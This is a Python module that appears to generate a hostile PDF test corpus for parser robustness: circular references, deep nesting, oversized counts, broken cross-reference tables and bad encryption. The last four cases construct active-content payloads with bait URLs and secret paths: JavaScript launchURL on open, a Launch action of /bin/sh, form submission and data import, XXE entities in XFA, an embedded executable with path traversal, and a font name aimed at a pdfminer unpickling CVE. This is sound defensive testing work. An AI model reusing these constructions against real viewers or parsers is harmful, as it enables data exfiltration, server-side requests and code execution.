"""PDF: objects that refer to themselves, trees in circles, names that lead elsewhere."""

from __future__ import annotations

from collections.abc import Mapping

from hostile.corpus.case import Bait, case, fixed

Objects = Mapping[int, bytes | str]


def pdf(objects: Objects, trailer: str = "/Root 1 0 R") -> bytes:
    """A file with these objects."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        raw = content.encode("latin-1") if isinstance(content, str) else content
        out += f"{number} 0 obj\n".encode() + raw + b"\nendobj\n"
    start, count = len(out), max(objects) + 1
    out += f"xref\n0 {count}\n0000000000 65535 f \n".encode()
    for number in range(1, count):
        out += f"{places.get(number, 0):010d} 00000 {'n' if number in places else 'f'} \n".encode()
    return bytes(out + f"trailer\n<< /Size {count} {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode())


def stream(data: bytes, facts: str = "") -> bytes:
    """A stream object."""
    return f"<< /Length {len(data)} {facts} >>\nstream\n".encode() + data + b"\nendstream"


FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def text_page(content: str | bytes, font: str = FONT, page: str = "", **more: bytes | str) -> dict[int, bytes | str]:
    """The objects of a file of one page: 1 catalogue, 2 pages, 3 page, 4 content, 5 font; `o7` in `more` is object 7."""
    raw = content.encode("latin-1") if isinstance(content, str) else content
    resources = "/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>"
    objects: dict[int, bytes | str] = {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {resources} /Contents 4 0 R {page} >>",
        4: raw if raw.endswith(b"endstream") else stream(raw),
        5: font,
    }
    return objects | _numbered(more)


def _numbered(named: Mapping[str, bytes | str]) -> dict[int, bytes | str]:
    return {int(name[1:]): content for name, content in named.items()}


_TEXT = "BT /F1 12 Tf 72 720 Td (2021) Tj ET"
_CATALOG = "<< /Type /Catalog /Pages 2 0 R {} >>"


def _with(more: str, page: str = "", **objects: bytes | str) -> bytes:
    return pdf(text_page(_TEXT, page=page) | _numbered(objects) | {1: _CATALOG.format(more)})


fixed("pdf/page tree in a circle", pdf(text_page(_TEXT) | {2: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}))
fixed("pdf/page that is its own parent", pdf(text_page(_TEXT, page="/Parent 3 0 R")))
fixed(
    "pdf/two billion pages told",
    pdf(text_page(_TEXT) | {2: "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"}),
)
fixed("pdf/minus one page told", pdf(text_page(_TEXT) | {2: "<< /Type /Pages /Kids [3 0 R] /Count -1 >>"}))
fixed("pdf/one page 100,000 times", lambda: pdf(
    text_page(_TEXT) | {2: f"<< /Type /Pages /Kids [{'3 0 R ' * 100_000}] /Count 100000 >>"}))  # fmt: skip
fixed(
    "pdf/500 pages",
    lambda: pdf(text_page(_TEXT) | {2: f"<< /Type /Pages /Kids [{'3 0 R ' * 500}] /Count 500 >>"}),
)
fixed("pdf/page tree of 5000 levels", lambda: pdf(
    text_page(_TEXT) | {2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>"}
    | {n: f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(10, 5000)}
    | {5000: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
))  # fmt: skip
fixed("pdf/no catalogue", pdf({1: "<< >>"}))
fixed("pdf/catalogue is itself", pdf({1: "1 0 R"}))
fixed("pdf/references in a circle", pdf(text_page(_TEXT) | {4: "7 0 R", 7: "8 0 R", 8: "7 0 R"}))
fixed("pdf/length that is its own stream", pdf(text_page(_TEXT) | {4: "<< /Length 4 0 R >>\nstream\nx\nendstream"}))
fixed("pdf/length of 2^40", pdf(text_page(_TEXT) | {4: "<< /Length 1099511627776 >>\nstream\nx\nendstream"}))
fixed("pdf/length below zero", pdf(text_page(_TEXT) | {4: "<< /Length -5 >>\nstream\nx\nendstream"}))
fixed("pdf/arrays of 100,000 levels", lambda: _with("/X " + "[" * 100_000 + "]" * 100_000))
fixed("pdf/dictionaries of 50,000 levels", lambda: _with("/X " + "<</A " * 50_000 + "1" + ">>" * 50_000))
fixed("pdf/brackets in a string", lambda: _with("/X (" + "(" * 200_000))
fixed("pdf/name of a million letters", lambda: _with("/" + "A" * 1_000_000 + " 1"))
fixed("pdf/xref in a circle", pdf(text_page(_TEXT), "/Root 1 0 R /Prev 9"))
fixed("pdf/xref of a billion entries", pdf(text_page(_TEXT)).replace(b"xref\n0 6", b"xref\n0 999999999"))
fixed("pdf/object numbers of 2^31", pdf(text_page(_TEXT)).replace(b"5 0 obj", b"2147483647 0 obj"))
fixed("pdf/startxref beyond the end", pdf(text_page(_TEXT)).replace(b"startxref\n", b"startxref\n99999999"))
fixed("pdf/no xref", lambda: pdf(text_page(_TEXT)).partition(b"xref")[0] + b"%%EOF")
fixed("pdf/cut", lambda: pdf(text_page(_TEXT))[:400])
fixed("pdf/junk before and behind", lambda: b"x" * 1000 + pdf(text_page(_TEXT)) + b"x" * 400)
fixed("pdf/nothing but a head", b"%PDF-1.7\n%%EOF")
fixed("pdf/page of 10^9 points", pdf(text_page(_TEXT, page="/MediaBox [0 0 1e9 1e9] /UserUnit 1e6")))
fixed("pdf/page of no size", pdf(text_page(_TEXT, page="/MediaBox [0 0 0 0]")))
fixed("pdf/page of words", pdf(text_page(_TEXT, page="/MediaBox [a b c d] /Rotate (x)")))
fixed(
    "pdf/outlines in a circle",
    _with("/Outlines 7 0 R", o7="<< /First 8 0 R /Last 8 0 R >>", o8="<< /Next 8 0 R /First 7 0 R >>"),
)
fixed("pdf/names in a circle", _with("/Names << /Dests 7 0 R >>", o7="<< /Kids [7 0 R 7 0 R] >>"))
fixed("pdf/structure in a circle", _with("/StructTreeRoot 7 0 R", o7="<< /K [7 0 R] /ParentTree 7 0 R >>"))
fixed("pdf/form within itself", pdf(text_page(
    "/X Do " + _TEXT, o6=stream(b"/X Do /X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
)))  # fmt: skip
fixed("pdf/forms that double 40 times", lambda: pdf(text_page("/X Do " + _TEXT) | {
    n: stream(b"/X Do /X Do", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {n + 1} 0 R >> >>")
    for n in range(6, 46)
}), slow=True)  # fmt: skip
fixed("pdf/font that draws itself", pdf(text_page(
    _TEXT, "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 7 0 R >> /FirstChar 50 "
    "/LastChar 50 /Widths [1] /Encoding << /Differences [50 /a] >> /Resources << /Font << /F1 5 0 R >> >> >>",
    o7=stream(b"BT /F1 1 Tf (2) Tj ET"),
)))  # fmt: skip
fixed("pdf/encrypted in an unknown way", pdf(text_page(_TEXT), "/Root 1 0 R /Encrypt << /Filter /Evil /V 99 >>"))
fixed("pdf/encrypted with a password", pdf(
    text_page(_TEXT), f"/Root 1 0 R /ID [<{'00' * 16}> <{'00' * 16}>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 "
    f"/P -4 /O <{'41' * 32}> /U <{'42' * 32}> >>"))  # fmt: skip


@case("pdf/actions of all kinds")
def _actions(bait: Bait) -> bytes:
    actions = [
        f"<< /S /URI /URI ({bait.url}/uri) >>",
        f"<< /S /JavaScript /JS (app.launchURL\\('{bait.url}/js'\\)) >>",
        "<< /S /Launch /F (/bin/sh) >>",
        f"<< /S /GoToR /F ({bait.secret}) /D [0 /Fit] >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({bait.url}/form) >> >>",
        f"<< /S /ImportData /F ({bait.secret}) >>",
    ]
    annotations = "".join(f"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {one} >>" for one in actions)
    return _with(f"/OpenAction {actions[1]} /AA << /WC {actions[2]} >>", f"/Annots [{annotations}]")


@case("pdf/streams kept elsewhere")
def _elsewhere(bait: Bait) -> bytes:
    outside = f"<< /Length 0 /F ({bait.secret}) >>\nstream\n\nendstream"
    fetched = f"<< /Length 0 /F << /FS /URL /F ({bait.url}/stream) >> >>\nstream\n\nendstream"
    return pdf(text_page(_TEXT, page="/Contents [4 0 R 7 0 R]", o7=fetched) | {4: outside})


@case("pdf/forms and files inside")
def _inside(bait: Bait) -> bytes:
    xfa = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "{bait.url}/xfa">]><xdp>&x;</xdp>'.encode()
    return _with(
        "/AcroForm << /XFA 7 0 R /Fields [] >> /Metadata 7 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >>",
        o7=stream(xfa), o8="<< /Type /Filespec /F (../../a.exe) /EF << /F 7 0 R >> >>",
    )  # fmt: skip


@case("pdf/character map of a path")
def _map_of_a_path(bait: Bait) -> bytes:
    """pdfminer once unpickled a map that a name like this led to (CVE-2025-64512)."""
    path = bait.secret.replace("/", "#2F")
    font = f"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /{path} /DescendantFonts [7 0 R] >>"
    below = "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A /CIDSystemInfo << /Registry (..#2F) /Ordering (..) /Supplement 0 >> >>"
    ruled = "".join(f"{x} 100 m {x} 700 l S " for x in (100, 200, 300)) + "100 100 m 300 100 l S 100 700 m 300 700 l S "
    return pdf(text_page(ruled + _TEXT, font, o7=below))
